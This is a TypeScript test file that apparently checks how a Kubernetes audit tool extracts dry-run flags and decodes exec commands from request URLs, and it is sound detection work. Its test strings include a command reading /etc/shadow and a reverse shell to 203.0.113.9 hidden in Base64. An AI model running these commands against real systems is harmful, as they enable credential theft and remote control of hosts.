import { describe, expect, it } from 'vitest';
import { derive } from './derive.ts';

describe('dryRun', () => {
  const of = (requestURI: string, more = {}) => derive('satrap.dryRun', { requestURI, ...more });

  it.each(['/x?dryRun=All', '/x?a=b&dryRun=All&c=d', '/x?dryRun=%41ll', '/x?dry%52un=All'])(
    'is told by %s',
    (uri) => expect(of(uri)).toBe('true'),
  );

  it.each(['/x', '/x?dryrun=All', '/x?a=dryRun=All', '/dryRun=All', '/x?dryRun='])(
    'is not told by %s',
    (uri) => expect(of(uri)).toBeUndefined(),
  );

  it('is told by the body of a deletion, and of nothing else', () => {
    const requestObject = { kind: 'DeleteOptions', dryRun: ['All'] };
    expect(of('/x', { verb: 'deletecollection', requestObject })).toBe('true');
    expect(of('/x', { verb: 'create', requestObject })).toBeUndefined();
    expect(of('/x', { verb: 'delete', requestObject: { kind: 'DeleteOptions' } })).toBeUndefined();
  });
});

describe('command', () => {
  const of = (query: string, subresource = 'exec') =>
    derive('satrap.command', { requestURI: `/exec?${query}`, objectRef: { subresource } });

  it('is decoded, whatever the order of parameters', () => {
    expect(of('stdin=true&command=cat&command=%2Fetc%2Fshadow&tty=true')).toBe('cat /etc/shadow');
    expect(of('command=sh&command=-c&command=a+b')).toBe('sh -c a b');
  });

  it('has what was hidden in Base64 as a further element', () => {
    const hidden = Buffer.from('bash -i >& /dev/tcp/203.0.113.9/443 0>&1').toString('base64');
    expect(of(`command=${encodeURIComponent(`echo ${hidden} | base64 -d | sh`)}`)).toEqual([
      `echo ${hidden} | base64 -d | sh`,
      'bash -i >& /dev/tcp/203.0.113.9/443 0>&1',
    ]);
  });

  it('takes no long word for Base64 text', () => {
    expect(of('command=/usr/local/bin/somethingWithALongName')).toBe(
      '/usr/local/bin/somethingWithALongName',
    );
  });

  it('is absent without a command and for other requests', () => {
    expect(of('stdin=true')).toBeUndefined();
    expect(of('command=x', 'log')).toBeUndefined();
  });

  it('survives a broken escape', () => expect(of('command=%E0%A4%A')).toBeTypeOf('string'));
});
